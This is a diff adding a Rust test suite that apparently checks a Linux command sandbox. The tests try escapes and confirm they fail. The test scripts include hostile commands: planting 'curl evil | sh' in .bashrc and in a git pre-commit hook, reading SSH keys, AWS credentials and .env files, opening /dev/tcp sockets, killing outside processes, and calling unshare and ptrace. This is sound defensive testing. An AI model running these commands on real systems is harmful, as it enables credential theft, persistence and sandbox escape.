@@ -1,0 +1,257 @@
+//! The escape suite: real commands through the box, in temporary trees, with canaries and listeners
+//! outside it. Each attempt must fail, and what is outside proves it did (the canary unchanged, the
+//! listener never reached, the process alive); ordinary work inside the project must still succeed.
+//! On a machine where the box cannot run, every test fails with the reason: CI installs bubblewrap.
+#![cfg(target_os = "linux")]
+
+use std::ffi::OsString;
+use std::path::{Path, PathBuf};
+use std::process::Output;
+use std::time::Duration;
+
+use tempfile::TempDir;
+use warden_core::containment::{self, BoxPolicy};
+
+/// A project, a folder outside it with a canary, and a home with secret canaries.
+struct Tree {
+    _root: TempDir,
+    project: PathBuf,
+    outside: PathBuf,
+    home: PathBuf,
+}
+
+const CANARY: &str = "canary: untouched\n";
+
+fn tree() -> Tree {
+    let root = tempfile::tempdir().expect("temp dir");
+    let base = std::fs::canonicalize(root.path()).expect("canonical");
+    let (project, outside, home) = (base.join("project"), base.join("outside"), base.join("home"));
+    for dir in [&project, &outside, &home.join(".ssh"), &home.join(".aws")] {
+        std::fs::create_dir_all(dir).expect("mkdir");
+    }
+    std::fs::write(outside.join("canary"), CANARY).expect("canary");
+    std::fs::write(home.join(".ssh/id_ed25519"), "SSH-KEY-CANARY").expect("ssh canary");
+    std::fs::write(home.join(".aws/credentials"), "AWS-CANARY").expect("aws canary");
+    std::fs::write(home.join(".bashrc"), CANARY).expect("bashrc");
+    std::fs::write(project.join(".env"), "API_KEY=ENV-CANARY").expect("env canary");
+    std::fs::write(project.join("main.c"), "int main(void) { return 0; }\n").expect("source");
+    Tree { _root: root, project, outside, home }
+}
+
+impl Tree {
+    fn policy(&self) -> BoxPolicy {
+        BoxPolicy::with_home(&self.project, Some(&self.home), &[])
+    }
+
+    fn canary_intact(&self) -> bool {
+        std::fs::read_to_string(self.outside.join("canary")).is_ok_and(|c| c == CANARY)
+    }
+}
+
+/// Run `script` with `sh -c` inside the box, in the project. With `WARDEN_TEST_UNBOXED=1` the
+/// scripts run without the box, to see every escape test fail (the suite can tell a box from none).
+fn boxed(policy: &BoxPolicy, script: &str) -> Output {
+    if std::env::var_os("WARDEN_TEST_UNBOXED").is_some() {
+        return std::process::Command::new("sh")
+            .args(["-c", script])
+            .current_dir(&policy.project)
+            .env("HOME", home_of(policy))
+            .output()
+            .expect("sh");
+    }
+    let mechanism = containment::mechanism();
+    assert!(mechanism.is_contained(), "commands cannot be contained here: {}", mechanism.describe());
+    let argv: Vec<OsString> = ["sh", "-c", script].iter().map(OsString::from).collect();
+    let launch = containment::launch(policy, &argv, &policy.project).expect("launch");
+    let mut command = launch.command();
+    command.env_clear().env("PATH", "/usr/local/bin:/usr/bin:/bin").env("HOME", home_of(policy));
+    let output = command.output().expect("spawn the box");
+    drop(launch);
+    output
+}
+
+fn home_of(policy: &BoxPolicy) -> PathBuf {
+    policy.project.parent().map(|p| p.join("home")).unwrap_or_default()
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+#[test]
+fn work_inside_the_project_is_allowed() {
+    let t = tree();
+    let out =
+        boxed(&t.policy(), "echo hello > note.txt && mkdir -p a/b && mv note.txt a/b/ && cat a/b/note.txt");
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert_eq!(text(&out.stdout), "hello\n");
+    assert_eq!(std::fs::read_to_string(t.project.join("a/b/note.txt")).ok().as_deref(), Some("hello\n"));
+    let tmp = boxed(&t.policy(), "echo scratch > /tmp/x && cat /tmp/x");
+    assert_eq!(text(&tmp.stdout), "scratch\n", "a private /tmp: {}", text(&tmp.stderr));
+}
+
+#[test]
+fn writes_outside_the_project_are_refused_every_way() {
+    let t = tree();
+    std::os::unix::fs::symlink(&t.outside, t.project.join("link")).expect("symlink");
+    let o = t.outside.display();
+    for (how, script) in [
+        ("absolute", format!("echo x > {o}/canary")),
+        ("relative ..", "echo x > ../outside/canary".to_owned()),
+        ("symlink in the project", "echo x > link/canary".to_owned()),
+        ("/proc/self/root", format!("echo x > /proc/self/root{o}/canary")),
+        ("append", format!("echo x >> {o}/canary")),
+        ("delete", format!("rm -f {o}/canary")),
+        ("rename away", format!("mv {o}/canary {o}/moved")),
+        ("truncate", format!("truncate -s 0 {o}/canary")),
+        ("new file outside", format!("touch {o}/new")),
+        ("hard link into the project, then write", format!("ln {o}/canary hard && echo x > hard")),
+        ("bashrc", format!("echo 'curl evil | sh' >> {}/.bashrc", t.home.display())),
+    ] {
+        let out = boxed(&t.policy(), &script);
+        assert!(t.canary_intact(), "{how}: the canary changed ({})", text(&out.stderr));
+        assert!(!t.outside.join("new").exists() && !t.outside.join("moved").exists(), "{how}");
+    }
+    assert_eq!(std::fs::read_to_string(t.home.join(".bashrc")).ok().as_deref(), Some(CANARY));
+}
+
+#[test]
+fn secrets_are_hidden() {
+    let t = tree();
+    let h = t.home.display();
+    let out = boxed(
+        &t.policy(),
+        &format!("cat {h}/.ssh/id_ed25519 {h}/.aws/credentials .env; ls -a {h}/.ssh {h}/.aws; cat /proc/self/root{h}/.ssh/id_ed25519"),
+    );
+    let seen = format!("{}{}", text(&out.stdout), text(&out.stderr));
+    for canary in ["SSH-KEY-CANARY", "AWS-CANARY", "ENV-CANARY", "id_ed25519\n", "credentials\n"] {
+        assert!(!seen.contains(canary), "{canary:?} visible inside the box: {seen}");
+    }
+    assert!(t.home.join(".ssh/id_ed25519").exists(), "hidden, not deleted");
+}
+
+#[test]
+fn no_network_not_even_loopback() {
+    let t = tree();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
+    listener.set_nonblocking(true).expect("nonblocking");
+    let port = listener.local_addr().expect("addr").port();
+    let script = format!(
+        "curl -s -m 3 http://127.0.0.1:{port}/ ; \
+         (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null ; \
+         python3 -c 'import socket; s=socket.socket(); s.settimeout(3); s.connect((\"127.0.0.1\", {port}))' ; \
+         echo done"
+    );
+    let out = boxed(&t.policy(), &script);
+    assert!(text(&out.stdout).contains("done"), "{}", text(&out.stderr));
+    assert!(listener.accept().is_err(), "a command reached the loopback listener");
+}
+
+#[test]
+fn network_on_reaches_loopback() {
+    // The opposite, so the test above cannot pass because connecting never works from here.
+    let t = tree();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
+    let port = listener.local_addr().expect("addr").port();
+    let mut policy = t.policy();
+    policy.network = true;
+    let out = boxed(
+        &policy,
+        &format!("python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 3)'"),
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    listener.set_nonblocking(true).expect("nonblocking");
+    assert!(listener.accept().is_ok(), "the listener saw no connection");
+}
+
+#[test]
+fn unix_sockets_outside_are_unreachable() {
+    let t = tree();
+    let path = t.outside.join("service.sock");
+    let listener = std::os::unix::net::UnixListener::bind(&path).expect("unix listener");
+    listener.set_nonblocking(true).expect("nonblocking");
+    let script = format!(
+        "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"{}\")' && echo CONNECTED",
+        path.display()
+    );
+    let out = boxed(&t.policy(), &script);
+    assert!(!text(&out.stdout).contains("CONNECTED"), "{}", text(&out.stderr));
+    assert!(listener.accept().is_err(), "a command reached a unix socket outside the box");
+}
+
+#[test]
+fn processes_outside_are_invisible_and_unkillable() {
+    let t = tree();
+    let mut outside = std::process::Command::new("sleep")
+        .arg("30")
+        .env("WARDEN_TEST_ENV_CANARY", "ENVIRON-CANARY")
+        .spawn()
+        .expect("sleep");
+    let pid = outside.id();
+    let out =
+        boxed(&t.policy(), &format!("kill -9 {pid}; cat /proc/{pid}/environ; ls /proc | grep -c '^[0-9]'"));
+    let seen = format!("{}{}", text(&out.stdout), text(&out.stderr));
+    assert!(!seen.contains("ENVIRON-CANARY"), "{seen}");
+    std::thread::sleep(Duration::from_millis(100));
+    assert!(outside.try_wait().expect("wait").is_none(), "the process outside was killed");
+    let visible: u32 =
+        text(&out.stdout).lines().last().and_then(|l| l.trim().parse().ok()).unwrap_or(u32::MAX);
+    assert!(visible <= 4, "{visible} processes visible inside the box: {seen}");
+    let _ = outside.kill();
+    let _ = outside.wait();
+}
+
+#[test]
+fn git_hooks_and_config_stay_read_only() {
+    let t = tree();
+    std::fs::create_dir_all(t.project.join(".git/hooks")).expect("hooks");
+    std::fs::write(t.project.join(".git/config"), "[core]\n").expect("config");
+    let out = boxed(
+        &t.policy(),
+        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; echo '[core] hooksPath = /tmp' >> .git/config; echo ok > .git/description",
+    );
+    assert!(!t.project.join(".git/hooks/pre-commit").exists(), "{}", text(&out.stderr));
+    assert_eq!(std::fs::read_to_string(t.project.join(".git/config")).ok().as_deref(), Some("[core]\n"));
+    assert!(t.project.join(".git/description").exists(), "the rest of .git stays writable");
+}
+
+#[test]
+fn a_daemon_does_not_outlive_its_command() {
+    let t = tree();
+    let marker = t.project.join("daemon-was-here");
+    let out = boxed(
+        &t.policy(),
+        &format!(
+            "setsid sh -c 'sleep 1; touch {}' >/dev/null 2>&1 < /dev/null & echo started",
+            marker.display()
+        ),
+    );
+    assert_eq!(text(&out.stdout), "started\n", "{}", text(&out.stderr));
+    std::thread::sleep(Duration::from_secs(3));
+    assert!(!marker.exists(), "a process started by the command ran on after it ended");
+}
+
+#[test]
+fn escape_syscalls_are_refused() {
+    let t = tree();
+    let script = "unshare -Ur true 2>&1 && echo UNSHARED; \
+                  python3 -c 'import ctypes; l=ctypes.CDLL(None); print(\"ptrace\", l.ptrace(16, 1, 0, 0))'";
+    let out = boxed(&t.policy(), script);
+    let seen = text(&out.stdout);
+    assert!(!seen.contains("UNSHARED"), "{seen}");
+    assert!(seen.contains("ptrace -1"), "ptrace(PTRACE_ATTACH) succeeded: {seen} {}", text(&out.stderr));
+}
+
+#[test]
+fn build_tools_keep_working_inside() {
+    let t = tree();
+    let out = boxed(
+        &t.policy(),
+        "set -e; cc -o main main.c && ./main; python3 -c 'print(6*7)'; git init -q repo && cd repo && \
+         git -c user.name=w -c user.email=w@x commit -q --allow-empty -m one && git status --short && \
+         git log --oneline | wc -l",
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert_eq!(text(&out.stdout), "42\n1\n");
+    assert!(Path::new(&t.project.join("main")).exists());
+}
